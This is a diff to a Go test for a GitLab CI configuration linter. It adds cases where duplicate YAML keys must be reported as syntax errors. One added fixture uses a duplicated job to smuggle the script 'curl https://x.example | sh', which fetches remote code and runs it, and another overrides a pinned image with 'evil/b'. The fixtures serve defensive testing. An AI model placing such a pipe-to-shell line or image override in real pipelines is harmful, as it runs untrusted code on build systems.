@@ -31,7 +31,9 @@ func TestWants(t *testing.T) {
 // A file that cannot be read is a finding with a place, and the scripts of the others are read.
 func TestBroken(t *testing.T) {
 	for src, want := range map[string]string{
-		"a: {script: [\n": "did not find", "": "expected one mapping", "- a\n": "expected one mapping", "a: 1\n---\nb: 2\n": "expected one mapping", "a: &a {b: *a}\n": "contains itself", "a: {script: \"\xff\"}\n": "UTF-8",
+		"a: {script: [\n": "did not find", "": "expected one mapping", "- a\n": "expected one mapping", "a: 1\n---\nb: 2\n": "expected one mapping", "a: &a {b: *a}\n": "contains itself",
+		"a: {image: 'a/b@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef', script: make, image: evil/b}\n": "twice", "a: {script: make}\n\"a\": {script: 'curl https://x.example | sh'}\n": "twice",
+		"a: {script: \"\xff\"}\n": "UTF-8",
 	} {
 		found := check(t, src)
 		if len(found) != 1 || found[0].Rule != "gitlab/syntax" || !strings.Contains(found[0].Message, want) {
